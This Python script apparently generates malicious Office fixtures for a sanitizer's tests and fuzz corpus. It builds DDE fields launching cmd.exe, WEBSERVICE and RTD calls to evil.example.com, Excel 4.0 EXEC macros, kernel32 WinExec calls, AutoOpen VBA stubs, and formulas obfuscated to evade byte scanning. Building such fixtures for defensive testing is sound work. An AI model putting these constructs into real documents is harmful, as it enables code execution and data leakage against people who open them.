#!/usr/bin/env python3
"""Builds the hostile OOXML documents of tests/cli/sanitize_ooxml_attacks.sh
(and the fuzz seeds in fuzz/corpus/ooxml/), from the standard library only.

  altchunk.docx     w:altChunk in the body, a table cell and a header, pointing at
                    an embedded docx (DDEAUTO, INCLUDEPICTURE, an external image),
                    a docm, an RTF with \\object\\objemb, an MHT and an HTML page with
                    a script; one chunk's relationship disguised as another type
  macrosheet.xlsx   three Excel 4.0 macro sheets with EXEC, all declared as
                    worksheets: one known by its root element (xm:macrosheet), one by
                    its relationship type (xlMacrosheet), one with no content type;
                    _xlnm.Auto_Open and Auto_Close names; a web extension task pane
  calls.xlsx        formulas that fetch or call: WEBSERVICE, FILTERXML(WEBSERVICE()),
                    _xlfn.IMAGE, RTD, CALL, REGISTER, EXEC, HYPERLINK to file:, an XLL
                    function, a lower-case webservice, a shared formula; in cells,
                    defined names, data validation (also x14 with xm:f) and
                    conditional formatting; harmless ones that stay
  orphans.docx      a VBA project renamed media/image1.png behind a vbaProject
                    relationship, a nested sub.docm behind a package relationship, an
                    x.xlsm and a part no relationship names; images: an SVG with a
                    script, a PNG with text chunks and a docm after its end, a JPEG
                    with a comment, a GIF, a "PNG" that is a JPEG, a "PNG" that is
                    text, an OLE file and (outside media/, typed as octet-stream) a
                    docm behind image relationships; a docm behind a customXml
                    relationship (a kept type: bytes nothing checks)
  external-main.docx  the main document's relationship marked External (the result
                    would hold no document)
  dangling.xlsx, dangling.docx, dangling.pptx
                    elements whose relationship goes (its part removed, or its
                    target external): customPr (custom property .bin), a sheet
                    background GIF, a drawing, a VML drawing, an OLE object in
                    mc:AlternateContent, a table part, a
                    pivot cache, x14 slicers and slicer caches, a hyperlink and a
                    page setup; Word's header reference, a chart, a hyperlink;
                    PowerPoint's click sound (a:snd of a WAV): nothing may be left
                    pointing at nothing, nor without an attribute it needs
  hidden.xlsx       formulas that call out, hidden from a search of the bytes: a
                    name split by a processing instruction (in a cell, a
                    conditional format and a data validation, in a part with a
                    BOM), a comment, CDATA, entity references, another prefix
                    for SpreadsheetML, a sheet in UTF-16 and one in Shift_JIS, a
                    formula inside another namespace's element named f
  malformed.docx    a custom XML part that is not well-formed (never copied unread)
Usage: make_ooxml_attacks.py OUTDIR
"""
import io
import os
import struct
import sys
import zipfile
import zlib

out = sys.argv[1]
src = os.path.dirname(os.path.abspath(__file__))
os.makedirs(out, exist_ok=True)

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MSR = "http://schemas.microsoft.com/office/2006/relationships"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="%s"' % R
SML = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="%s"' % R
XM = "http://schemas.microsoft.com/office/excel/2006/main"
WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
XL = "application/vnd.openxmlformats-officedocument.spreadsheetml."
# the types Word gives whole files inside a package (not their main parts')
DOCX_FILE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
DOCM_FILE = "application/vnd.ms-word.document.macroEnabled.12"
DECL = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def rels(*items):
    s = DECL + '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    for rid, typ, target, *ext in items:
        s += '<Relationship Id="%s" Type="%s" Target="%s"%s/>' % (
            rid, typ if typ.startswith("http") else R + "/" + typ, target,
            ' TargetMode="External"' if ext else "")
    return s + "</Relationships>"


def ctypes(defaults, overrides):
    s = DECL + '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    s += '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    for ext, t in defaults:
        s += '<Default Extension="%s" ContentType="%s"/>' % (ext, t)
    for p, t in overrides:
        s += '<Override PartName="%s" ContentType="%s"/>' % (p, t)
    return s + "</Types>"


def zipped(entries):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED) as z:
        for n, data in entries:
            z.writestr(n, data)
    return b.getvalue()


def write(name, entries):
    with open(os.path.join(out, name), "wb") as f:
        f.write(zipped(entries))


def para(text):
    return '<w:p><w:r><w:t xml:space="preserve">%s</w:t></w:r></w:p>' % text


def docx(body, main_type=WORD_MAIN, extra=()):
    """A small Word package, itself hostile: what an altChunk pulls in."""
    return zipped([
        ("[Content_Types].xml", ctypes([("xml", "application/xml")], [("/word/document.xml", main_type)])),
        ("_rels/.rels", rels(("rId1", "officeDocument", "word/document.xml"))),
        ("word/document.xml", DECL + "<w:document %s><w:body>%s</w:body></w:document>" % (W, body)),
    ] + list(extra))


def png(w=2, h=2, extra_chunks=b"", trailer=b""):
    def ch(t, data):
        return struct.pack(">I", len(data)) + t + data + struct.pack(">I", zlib.crc32(t + data) & 0xFFFFFFFF)
    raw = b"".join(b"\0" + bytes((10, 120, 200)) * w for _ in range(h))
    return (b"\x89PNG\r\n\x1a\n" + ch(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0)) + extra_chunks
            + ch(b"IDAT", zlib.compress(raw)) + ch(b"IEND", b"") + trailer)


def png_chunk(t, data):
    return struct.pack(">I", len(data)) + t + data + struct.pack(">I", zlib.crc32(t + data) & 0xFFFFFFFF)


# ---- 1. altChunk -------------------------------------------------------------
DDE_BODY = ('<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;">'
            '<w:r><w:t>chunk-dde</w:t></w:r></w:fldSimple></w:p>'
            '<w:p><w:fldSimple w:instr=\' INCLUDEPICTURE "http://evil.example.com/p.png" \'>'
            '<w:r><w:t>chunk-pic</w:t></w:r></w:fldSimple></w:p>')
CHUNK_DOCX = docx(DDE_BODY + para("chunk-docx-text"), extra=[
    ("word/_rels/document.xml.rels", rels(("rId9", "image", "http://evil.example.com/track.png", True)))])
CHUNK_DOCM = docx(para("chunk-docm-text"), "application/vnd.ms-word.document.macroEnabled.main+xml", extra=[
    ("word/vbaProject.bin", OLE2 + b"Sub AutoOpen()\nShell \"calc\"\nEnd Sub\n")])
CHUNK_RTF = (b"{\\rtf1\\ansi chunk-rtf-text {\\object\\objemb\\objw100\\objh100{\\*\\objclass Package}"
             b"{\\*\\objdata 01050000020000000b0000005061636b61676500" + OLE2.hex().encode() + b"}}}")
CHUNK_MHT = (b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=\"b\"\r\n\r\n--b\r\n"
             b"Content-Type: text/html\r\n\r\n<html><body>chunk-mht-text<script>new ActiveXObject('WScript.Shell')"
             b".Run('calc')</script></body></html>\r\n--b--\r\n")
CHUNK_HTML = (b"<html><body>chunk-html-text<script>alert(1)</script>"
              b"<img src=\"http://evil.example.com/beacon.gif\"></body></html>")
AF = R + "/aFChunk"
write("altchunk.docx", [
    ("[Content_Types].xml", ctypes([
        ("xml", "application/xml"), ("docx", DOCX_FILE), ("rtf", "application/rtf"), ("mht", "message/rfc822"),
        ("htm", "text/html"), ("docm", DOCM_FILE)], [
        ("/word/document.xml", WORD_MAIN),
        ("/word/header1.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml")])),
    ("_rels/.rels", rels(("rId1", "officeDocument", "word/document.xml"))),
    ("word/document.xml", DECL + '<w:document %s><w:body>' % W + para("body-before")
     + '<w:altChunk r:id="rIdA1"/>' + para("body-middle")
     + '<w:altChunk r:id="rIdA2"><w:altChunkPr><w:matchSrc/></w:altChunkPr></w:altChunk>'
     + '<w:tbl><w:tr><w:tc><w:altChunk r:id="rIdA3"/>' + para("cell-text") + '</w:tc></w:tr></w:tbl>'
     + '<w:altChunk r:id="rIdA4"/><w:altChunk r:id="rIdA5"/>' + para("body-after")
     + '<w:sectPr><w:headerReference w:type="default" r:id="rIdH"/></w:sectPr></w:body></w:document>'),
    ("word/_rels/document.xml.rels", rels(
        ("rIdA1", AF, "afchunk1.docx"), ("rIdA2", AF, "afchunk2.docm"), ("rIdA3", AF, "chunks/afchunk3.rtf"),
        ("rIdA4", AF, "afchunk4.mht"),
        # the type says custom XML: the element, not the type, makes it a chunk
        ("rIdA5", R + "/customXml", "chunk5.htm"),
        ("rIdH", "header", "header1.xml"))),
    ("word/header1.xml", DECL + '<w:hdr %s>%s<w:altChunk r:id="rIdA6"/></w:hdr>' % (W, para("header-text"))),
    ("word/_rels/header1.xml.rels", rels(("rIdA6", AF, "afchunk6.htm"))),
    ("word/afchunk1.docx", CHUNK_DOCX),
    ("word/afchunk2.docm", CHUNK_DOCM),
    ("word/chunks/afchunk3.rtf", CHUNK_RTF),
    ("word/afchunk4.mht", CHUNK_MHT),
    ("word/chunk5.htm", CHUNK_HTML),
    ("word/afchunk6.htm", CHUNK_HTML),
])

# ---- 2. Excel: macro sheets, web extensions, calling functions ---------------
MACRO = ('<xm:macrosheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
         'xmlns:xm="%s" xmlns:r="%s"><sheetData><row r="1">'
         '<c r="A1"><f>EXEC("calc.exe")</f><v>1</v></c><c r="A2"><f>HALT()</f></c>'
         '</row></sheetData></xm:macrosheet>' % (XM, R))
MACRO_AS_SHEET = ('<worksheet %s><sheetData><row r="1"><c r="A1"><f>EXEC("cmd /c calc")</f><v>1</v></c>'
                  '</row></sheetData></worksheet>' % SML)
WE_NS = "http://schemas.microsoft.com/office/webextensions/webextension/2010/11"
TP_NS = "http://schemas.microsoft.com/office/webextensions/taskpanes/2010/11"
write("macrosheet.xlsx", [
    ("[Content_Types].xml", ctypes([("xml", "application/xml")], [
        ("/xl/workbook.xml", XL + "sheet.main+xml"),
        ("/xl/worksheets/sheet1.xml", XL + "worksheet+xml"),
        ("/xl/worksheets/sheet2.xml", XL + "worksheet+xml"),
        ("/xl/worksheets/sheet3.xml", XL + "worksheet+xml"),
        ("/xl/webextensions/taskpanes.xml", "application/vnd.ms-office.webextensiontaskpanes+xml"),
        ("/xl/webextensions/webextension1.xml", "application/vnd.ms-office.webextension+xml")])),
    ("_rels/.rels", rels(("rId1", "officeDocument", "xl/workbook.xml"),
                         ("rId2", "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes",
                          "xl/webextensions/taskpanes.xml"))),
    ("xl/workbook.xml", DECL + '<workbook %s><sheets>'
     '<sheet name="表" sheetId="1" r:id="rId1"/>'
     '<sheet name="Macro1" sheetId="2" state="veryHidden" r:id="rId2"/>'
     '<sheet name="Macro2" sheetId="3" state="hidden" r:id="rId3"/>'
     '<sheet name="Macro3" sheetId="4" state="hidden" r:id="rId4"/></sheets>'
     '<definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName>'
     '<definedName name="auto_close_x">Macro2!$A$1</definedName>'
     '<definedName name="keep_me">表!$A$1</definedName></definedNames></workbook>' % SML),
    ("xl/_rels/workbook.xml.rels", rels(
        ("rId1", "worksheet", "worksheets/sheet1.xml"),
        ("rId2", "worksheet", "worksheets/sheet2.xml"),                 # the root says macro sheet
        ("rId3", MSR + "/xlMacrosheet", "worksheets/sheet3.xml"),       # the relationship says so
        ("rId4", "worksheet", "worksheets/sheet4.dat"))),               # no content type at all
    ("xl/worksheets/sheet1.xml", DECL + '<worksheet %s><sheetData><row r="1"><c r="A1"><v>1</v></c>'
     '<c r="B1"><f>SUM(A1,1)</f><v>2</v></c></row></sheetData></worksheet>' % SML),
    ("xl/worksheets/sheet2.xml", DECL + MACRO),
    ("xl/worksheets/sheet3.xml", DECL + MACRO_AS_SHEET),
    ("xl/worksheets/sheet4.dat", DECL + MACRO),
    ("xl/webextensions/taskpanes.xml", DECL + '<wetp:taskpanes xmlns:wetp="%s" xmlns:r="%s">'
     '<wetp:taskpane dockstate="right" visibility="1" width="350" row="4">'
     '<wetp:webextensionref r:id="rId1"/></wetp:taskpane></wetp:taskpanes>' % (TP_NS, R)),
    ("xl/webextensions/_rels/taskpanes.xml.rels", rels(
        ("rId1", "http://schemas.microsoft.com/office/2011/relationships/webextension", "webextension1.xml"))),
    ("xl/webextensions/webextension1.xml", DECL + '<we:webextension xmlns:we="%s" id="{1}">'
     '<we:reference id="wa0" version="1.0.0.0" store="https://evil.example.com/addin.xml" storeType="Registry"/>'
     '<we:properties><we:property name="Office.AutoShowTaskpaneWithDocument" value="true"/></we:properties>'
     '</we:webextension>' % WE_NS),
])

CALLS = [   # cell, formula, cached value
    ("A1", 'WEBSERVICE("http://evil.example.com/?d="&amp;B9)', "x"),
    ("A2", 'FILTERXML(WEBSERVICE("http://evil.example.com/x.xml"),"//a")', "y"),
    ("A3", '_xlfn.IMAGE("https://evil.example.com/beacon.png")', "0"),
    ("A4", 'RTD("evil.server",,"topic")', "0"),
    ("A5", 'CALL("kernel32","WinExec","JCJ","calc.exe",5)', "0"),
    ("A6", 'REGISTER("kernel32","WinExec","JCJ")', "0"),
    ("A7", 'EXEC("calc.exe")', "0"),
    ("A8", 'HYPERLINK("file:///c:/windows/system32/calc.exe","開く")', "開く"),
    ("A9", '_xll.EvilFunction(1)', "0"),
    ("A10", 'webservice ("http://evil.example.com/lower")', "z"),
]
cells = "".join('<row r="%s"><c r="%s" t="str"><f>%s</f><v>%s</v></c></row>' % (c[1:], c, f, v)
                for c, f, v in CALLS)
cells += ('<row r="11"><c r="A11"><f t="shared" ref="A11:A12" si="0">WEBSERVICE("http://evil.example.com/"&amp;B11)</f>'
          '<v>11</v></c></row><row r="12"><c r="A12"><f t="shared" si="0"/><v>12</v></c></row>'
          '<row r="13"><c r="A13" t="str"><f>"WEBSERVICE(x)"&amp;"a"</f><v>WEBSERVICE(x)a</v></c>'
          '<c r="B13"><f>SUM(1,2)</f><v>3</v></c>'
          '<c r="C13" t="str"><f>HYPERLINK("#表!A1","移動")</f><v>移動</v></c></row>')
X14 = "http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"
write("calls.xlsx", [
    ("[Content_Types].xml", ctypes([("xml", "application/xml")], [
        ("/xl/workbook.xml", XL + "sheet.main+xml"),
        ("/xl/worksheets/sheet1.xml", XL + "worksheet+xml"),
        ("/xl/calcChain.xml", XL + "calcChain+xml")])),
    ("_rels/.rels", rels(("rId1", "officeDocument", "xl/workbook.xml"))),
    ("xl/workbook.xml", DECL + '<workbook %s><sheets><sheet name="表" sheetId="1" r:id="rId1"/></sheets>'
     '<definedNames><definedName name="leak">WEBSERVICE("http://evil.example.com/n")</definedName>'
     '<definedName name="ev">EVALUATE("1+1")</definedName>'
     '<definedName name="range_ok">表!$A$1:$A$3</definedName></definedNames></workbook>' % SML),
    ("xl/_rels/workbook.xml.rels", rels(("rId1", "worksheet", "worksheets/sheet1.xml"),
                                        ("rId2", "calcChain", "calcChain.xml"))),
    ("xl/worksheets/sheet1.xml", DECL + '<worksheet %s xmlns:x14="%s" xmlns:xm="%s"><sheetData>%s</sheetData>'
     '<conditionalFormatting sqref="B1:B5"><cfRule type="expression" priority="1">'
     '<formula>LEN(WEBSERVICE("http://evil.example.com/cf"))&gt;0</formula></cfRule></conditionalFormatting>'
     '<conditionalFormatting sqref="C1:C5"><cfRule type="expression" priority="2"><formula>C1&gt;1</formula>'
     '</cfRule></conditionalFormatting>'
     '<dataValidations count="2">'
     '<dataValidation type="custom" sqref="D1"><formula1>ISNUMBER(WEBSERVICE("http://evil.example.com/dv"))</formula1></dataValidation>'
     '<dataValidation type="list" sqref="D2"><formula1>"はい,いいえ"</formula1></dataValidation>'
     '</dataValidations>'
     '<extLst><ext uri="{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}"><x14:dataValidations count="1">'
     '<x14:dataValidation type="custom"><x14:formula1><xm:f>RTD("evil.server",,"x")</xm:f></x14:formula1>'
     '<xm:sqref>E1</xm:sqref></x14:dataValidation></x14:dataValidations></ext></extLst>'
     '</worksheet>' % (SML, X14, XM, cells)),
    ("xl/calcChain.xml", DECL + '<calcChain %s><c r="A1" i="1"/><c r="B13"/></calcChain>' % SML),
])

# ---- 3. orphaned and unchecked parts ----------------------------------------
jpeg = open(os.path.join(src, "files", "base-16x8.jpg"), "rb").read()
jpeg_com = jpeg[:2] + b"\xff\xfe" + struct.pack(">H", 2 + 14) + b"secret-comment" + jpeg[2:]
DOCM = docx(para("nested"), "application/vnd.ms-word.document.macroEnabled.main+xml",
            extra=[("word/vbaProject.bin", OLE2 + b"Sub AutoOpen()")])
SVG = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert("svg")</script>'
       b'<a href="http://evil.example.com/"><rect width="10" height="10"/></a></svg>')
PNG_META = png(extra_chunks=png_chunk(b"tEXt", b"Comment\0png-secret"), trailer=DOCM)
IMG = R + "/image"
BLIP = ('<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
        '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData>'
        '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill>'
        '<a:blip r:embed="%s"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>')
write("orphans.docx", [
    ("[Content_Types].xml", ctypes([
        ("xml", "application/xml"), ("png", "image/png"), ("jpeg", "image/jpeg"), ("gif", "image/gif"),
        ("svg", "image/svg+xml"), ("bin", "application/octet-stream"),
        ("docm", DOCM_FILE), ("xlsm", "application/vnd.ms-excel.sheet.macroEnabled.12")], [
        ("/word/document.xml", WORD_MAIN),
        ("/customXml/item9.xml", "application/xml")])),
    ("_rels/.rels", rels(("rId1", "officeDocument", "word/document.xml"))),
    ("word/document.xml", DECL + '<w:document %s><w:body>%s%s</w:body></w:document>' % (
        W, para("orphans-text"), "".join(BLIP % ("rIdI%d" % i) for i in range(2, 10)))),
    ("word/_rels/document.xml.rels", rels(
        ("rIdV", MSR + "/vbaProject", "media/image1.png"),      # a macro project named like an image
        ("rIdP", "package", "embeddings/../sub.docm"),
        ("rIdI2", IMG, "media/image2.svg"),
        ("rIdI3", IMG, "media/image3.png"),
        ("rIdI4", IMG, "media/image4.jpeg"),
        ("rIdI5", IMG, "media/image5.gif"),
        ("rIdI6", IMG, "media/image6.png"),
        ("rIdI7", IMG, "media/image7.png"),
        ("rIdI8", IMG, "media/image8.bin"),
        ("rIdI9", IMG, "pic.dat"),                            # outside media/, no image type
        ("rIdC", R + "/customXml", "blob.bin"))),             # a kept type, binary bytes
    ("word/media/image1.png", OLE2 + b"Attribute VB_Name = \"ThisDocument\"\nSub AutoOpen()\nEnd Sub\n"),
    ("word/sub.docm", DOCM),
    ("word/x.xlsm", zipped([("xl/vbaProject.bin", OLE2 + b"macro")])),
    ("customXml/item9.xml", DECL + "<hidden>orphan-xml</hidden>"),
    ("word/media/image2.svg", SVG),
    ("word/media/image3.png", PNG_META),
    ("word/media/image4.jpeg", jpeg_com),
    ("word/media/image5.gif", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"),
    ("word/media/image6.png", jpeg),                     # a "PNG" that is a JPEG
    ("word/media/image7.png", b"not an image at all\n"),
    ("word/media/image8.bin", OLE2 + b"\0" * 64),        # an image relationship to an OLE file
    ("word/pic.dat", DOCM),
    ("word/blob.bin", DOCM),
])

# ---- a main document that nothing reaches once external relationships go ----
write("external-main.docx", [
    ("[Content_Types].xml", ctypes([("xml", "application/xml")], [("/word/document.xml", WORD_MAIN)])),
    ("_rels/.rels", DECL + '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
     '<Relationship Id="rId1" Type="%s/officeDocument" Target="word/document.xml" TargetMode="External"/>'
     '</Relationships>' % R),
    ("word/document.xml", DECL + "<w:document %s><w:body>%s</w:body></w:document>" % (W, para("x"))),
])

# ---- elements whose relationship goes ----------------------------------------
# Their relationships die in the two ways a scrub kills them: the target part is
# removed (a custom property's .bin, a GIF, a WAV, printer settings), or the
# relationship is external.  X marks the external ones.
X = "http://evil.example.com/x"
X14 = "http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"
write("dangling.xlsx", [
    ("[Content_Types].xml", ctypes([("xml", "application/xml"), ("gif", "image/gif"),
                                    ("bin", "application/vnd.openxmlformats-officedocument.spreadsheetml.customProperty")], [
        ("/xl/workbook.xml", XL + "sheet.main+xml"),
        ("/xl/worksheets/sheet1.xml", XL + "worksheet+xml"),
        ("/xl/tables/table1.xml", XL + "table+xml"),
        ("/xl/printerSettings/printerSettings1.bin", XL + "printerSettings")])),
    ("_rels/.rels", rels(("rId1", "officeDocument", "xl/workbook.xml"))),
    ("xl/workbook.xml", DECL + '<workbook %s xmlns:x14="%s"><sheets><sheet name="s" sheetId="1" r:id="rId1"/></sheets>'
     '<pivotCaches><pivotCache cacheId="1" r:id="rIdPc"/></pivotCaches>'
     '<extLst><ext uri="{BBE1A952-AA13-448e-AADC-164F8A28A991}"><x14:slicerCaches>'
     '<x14:slicerCache r:id="rIdSc"/></x14:slicerCaches></ext></extLst></workbook>' % (SML, X14)),
    ("xl/_rels/workbook.xml.rels", rels(("rId1", "worksheet", "worksheets/sheet1.xml"),
                                        ("rIdPc", "pivotCacheDefinition", X, True),
                                        ("rIdSc", "http://schemas.microsoft.com/office/2007/relationships/slicerCache", X, True))),
    ("xl/worksheets/sheet1.xml", DECL + '<worksheet %s xmlns:x14="%s"><sheetData><row r="1"><c r="A1" t="inlineStr">'
     '<is><t>sheet-text</t></is></c></row></sheetData>'
     '<hyperlinks><hyperlink ref="A1" r:id="rIdH"/></hyperlinks>'
     '<pageSetup paperSize="9" orientation="landscape" r:id="rIdPs"/>'
     '<customProperties><customPr name="evil" r:id="rIdCp"/></customProperties>'
     '<drawing r:id="rIdD"/><legacyDrawing r:id="rIdV"/><picture r:id="rIdBg"/>'
     '<oleObjects><mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">'
     '<mc:Choice Requires="x14"><oleObject progId="Package" shapeId="1025" r:id="rIdO"/></mc:Choice>'
     '<mc:Fallback><oleObject progId="Package" shapeId="1025" r:id="rIdO"/></mc:Fallback>'
     '</mc:AlternateContent></oleObjects>'
     '<tableParts count="2"><tablePart r:id="rIdT1"/><tablePart r:id="rIdT2"/></tableParts>'
     '<extLst><ext uri="{3A4CF648-6AED-40f4-86FF-DC5316D8AED3}"><x14:slicerList><x14:slicer r:id="rIdSl"/>'
     '</x14:slicerList></ext></extLst></worksheet>' % (SML, X14)),
    ("xl/worksheets/_rels/sheet1.xml.rels", rels(
        ("rIdH", "hyperlink", X, True),
        ("rIdPs", "printerSettings", "../printerSettings/printerSettings1.bin"),
        ("rIdCp", "customProperty", "../customProperty1.bin"),
        ("rIdD", "drawing", X, True),
        ("rIdV", "vmlDrawing", X, True),
        ("rIdBg", "image", "../media/image1.gif"),
        ("rIdO", "oleObject", "../embeddings/oleObject1.bin"),
        ("rIdT1", "table", "../tables/table1.xml"),
        ("rIdT2", "table", X, True),
        ("rIdSl", "http://schemas.microsoft.com/office/2007/relationships/slicer", X, True))),
    ("xl/customProperty1.bin", b"evil custom property"),
    ("xl/embeddings/oleObject1.bin", OLE2 + b"\0" * 64),
    ("xl/media/image1.gif", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"),
    ("xl/printerSettings/printerSettings1.bin", b"\0" * 64),
    ("xl/tables/table1.xml", DECL + '<table %s id="1" name="T" displayName="T" ref="A1:A2"><tableColumns count="1">'
     '<tableColumn id="1" name="c"/></tableColumns></table>' % SML),
])

CHART = ('<w:p><w:r><w:t>before-chart</w:t></w:r><w:r><w:drawing>'
         '<wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
         '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
         '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/chart">'
         '<c:chart xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" r:id="rIdC"/>'
         '</a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>')
write("dangling.docx", [
    ("[Content_Types].xml", ctypes([("xml", "application/xml")], [
        ("/word/document.xml", WORD_MAIN),
        ("/word/footer1.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.footer+xml")])),
    ("_rels/.rels", rels(("rId1", "officeDocument", "word/document.xml"))),
    ("word/document.xml", DECL + '<w:document %s><w:body>' % W
     + '<w:p><w:hyperlink r:id="rIdL"><w:r><w:t>link-text</w:t></w:r></w:hyperlink></w:p>' + CHART
     + '<w:sectPr><w:headerReference w:type="default" r:id="rIdHd"/>'
       '<w:footerReference w:type="default" r:id="rIdFt"/></w:sectPr></w:body></w:document>'),
    ("word/_rels/document.xml.rels", rels(("rIdL", "hyperlink", X, True), ("rIdC", "chart", X, True),
                                          ("rIdHd", "header", X, True), ("rIdFt", "footer", "footer1.xml"))),
    ("word/footer1.xml", DECL + '<w:ftr %s>%s</w:ftr>' % (W, para("footer-text"))),
])

P = ('xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" '
     'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="%s"' % R)
PML = "application/vnd.openxmlformats-officedocument.presentationml."
write("dangling.pptx", [
    ("[Content_Types].xml", ctypes([("xml", "application/xml"), ("wav", "audio/wav")], [
        ("/ppt/presentation.xml", PML + "presentation.main+xml"),
        ("/ppt/slides/slide1.xml", PML + "slide+xml")])),
    ("_rels/.rels", rels(("rId1", "officeDocument", "ppt/presentation.xml"))),
    ("ppt/presentation.xml", DECL + '<p:presentation %s><p:sldIdLst><p:sldId id="256" r:id="rId2"/></p:sldIdLst>'
     '<p:sldSz cx="9144000" cy="6858000"/><p:notesSz cx="6858000" cy="9144000"/></p:presentation>' % P),
    ("ppt/_rels/presentation.xml.rels", rels(("rId2", "slide", "slides/slide1.xml"))),
    ("ppt/slides/slide1.xml", DECL + '<p:sld %s><p:cSld><p:spTree><p:nvGrpSpPr><p:cNvPr id="1" name=""/>'
     '<p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/><p:sp><p:nvSpPr><p:cNvPr id="2" name="t">'
     '<a:hlinkClick r:id="" action="ppaction://noaction"><a:snd r:embed="rIdS" name="s.wav"/></a:hlinkClick>'
     '</p:cNvPr><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr/><p:txBody><a:bodyPr/><a:p><a:r><a:t>slide-text</a:t>'
     '</a:r></a:p></p:txBody></p:sp></p:spTree></p:cSld></p:sld>' % P),
    ("ppt/slides/_rels/slide1.xml.rels", rels(("rIdS", "audio", "../media/s.wav"))),
    ("ppt/media/s.wav", b"RIFF\x24\x00\x00\x00WAVEfmt "),
])

# ---- active content hidden from a search of the bytes ------------------------
def sheet(body, prefix=""):
    ns = SML.replace('xmlns="', 'xmlns:%s="' % prefix, 1) if prefix else SML
    return '<%sworksheet %s>%s</%sworksheet>' % (prefix + ":" if prefix else "", ns, body, prefix + ":" if prefix else "")
PI_SPLIT = sheet(
    '<sheetData><row r="1"><c r="A1"><f>WEB<?x?>SERVICE("http://evil.example.com/pi")</f><v>1</v></c></row></sheetData>'
    '<conditionalFormatting sqref="B1"><cfRule type="expression" priority="1">'
    '<formula>LEN(WEB<?x?>SERVICE("http://evil.example.com/cf"))&gt;0</formula></cfRule></conditionalFormatting>'
    '<dataValidations count="1"><dataValidation type="custom" sqref="C1">'
    '<formula1>ISNUMBER(RT<?x?>D("evil.example.com",,"dv"))</formula1></dataValidation></dataValidations>')
OTHER_FORMS = sheet(
    '<s:sheetData><s:row r="1"><s:c r="A1"><s:f>_xlfn.IM<!-- -->AGE(&quot;https://evil.example.com/img&quot;)</s:f>'
    '<s:v>0</s:v></s:c><s:c r="B1"><s:f><![CDATA[CALL("evil.example.com","x")]]></s:f><s:v>0</s:v></s:c>'
    '</s:row></s:sheetData>', "s")
UTF16 = sheet('<sheetData><row r="1"><c r="A1"><f>WEBSERVICE("http://evil.example.com/u16")</f><v>1</v></c>'
              '</row></sheetData>')
SJIS = sheet('<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>表</t></is></c>'
             '<c r="B1"><f>RTD("evil.example.com",,"sj")</f><v>1</v></c></row></sheetData>')
# a cell formula inside an element of another namespace also named f, whose text
# (a string literal around it) calls nothing: the inner one is read on its own
NESTED = sheet('<sheetData><row r="1"><c r="A1"><x:f xmlns:x="urn:example:other">"'
               '<f>WEBSERVICE("http://evil.example.com/nested")</f>"</x:f><v>1</v></c></row></sheetData>')
write("hidden.xlsx", [
    ("[Content_Types].xml", ctypes([("xml", "application/xml")], [("/xl/workbook.xml", XL + "sheet.main+xml")] + [
        ("/xl/worksheets/sheet%d.xml" % i, XL + "worksheet+xml") for i in range(1, 6)])),
    ("_rels/.rels", rels(("rId1", "officeDocument", "xl/workbook.xml"))),
    ("xl/workbook.xml", DECL + '<workbook %s><sheets>%s</sheets></workbook>' % (SML, "".join(
        '<sheet name="s%d" sheetId="%d" r:id="rId%d"/>' % (i, i, i) for i in range(1, 6)))),
    ("xl/_rels/workbook.xml.rels", rels(*[("rId%d" % i, "worksheet", "worksheets/sheet%d.xml" % i) for i in range(1, 6)])),
    ("xl/worksheets/sheet1.xml", b"\xef\xbb\xbf" + (DECL + PI_SPLIT).encode()),
    ("xl/worksheets/sheet2.xml", DECL + OTHER_FORMS),
    ("xl/worksheets/sheet3.xml", b"\xff\xfe" + (DECL.replace("UTF-8", "UTF-16") + UTF16).encode("utf-16-le")),
    ("xl/worksheets/sheet4.xml", (DECL.replace("UTF-8", "Shift_JIS") + SJIS).encode("shift_jis")),
    ("xl/worksheets/sheet5.xml", DECL + NESTED),
])

